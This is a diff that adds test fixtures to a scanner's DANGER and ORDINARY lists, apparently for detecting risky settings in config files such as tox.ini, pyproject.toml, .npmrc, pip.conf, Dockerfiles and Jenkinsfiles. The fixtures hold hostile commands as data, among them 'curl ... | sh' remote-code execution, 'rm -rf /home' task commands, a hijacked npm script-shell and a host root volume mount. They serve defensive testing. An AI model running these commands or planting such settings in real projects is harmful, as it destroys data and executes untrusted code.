@@ -50,6 +50,10 @@ DANGER = [
     ("docker-compose.yaml", "services:\n  a:\n    image: b\n    privileged: true\n", 4),
     ("docker-compose.override.yml", "services:\n  a:\n    volumes:\n      - data:/d\n      - /:/host\n", 5),
     ("Dockerfile.prod", "FROM debian\nRUN useradd a\nRUN curl -s https://a.example | sh\n", 3),
+    ("tox.ini", "[testenv]\ncommands =\n    pytest\n    rm -rf /home\nallowlist_externals = rm\n", 4),
+    ("pyproject.toml", '[tool.poe.tasks]\nwipe = "rm -rf /home"\n', 2),
+    (".npmrc", "# a\nstrict-ssl=true\nscript-shell=/tmp/x\n", 3),
+    ("pip.conf", "[global]\nglobal.trusted-host = a.example\n", 2),
     (
         "Jenkinsfile",
         "pipeline {\n  stages { stage('x') { steps {\n    sh 'curl -s https://a.example | sh'\n  } } }\n}\n",
@@ -85,6 +89,8 @@ ORDINARY = [
     ),
     ("docker-compose.yml", "services:\n  a:\n    privileged: false\n    volumes: ['./src:/src', 'data:/data']\n"),
     ("Jenkinsfile", "pipeline {\n  stages { stage('x') { steps {\n    sh 'make test'\n  } } }\n}\n"),
+    ("tox.ini", "[testenv]\ndescription = rm -rf /home\ncommands = pytest\n"),
+    ("pyproject.toml", '[project]\ndescription = "rm -rf /home"\n[tool.poe.tasks]\ntest = "pytest"\n'),
     ("main.tf", 'variable "a" {\n  description = "command = rm -rf /home"\n}\n'),
     ("view.tsx", "export const A = (p: { n: number }) => <b>{p.n as number}</b>;\n"),
 ]
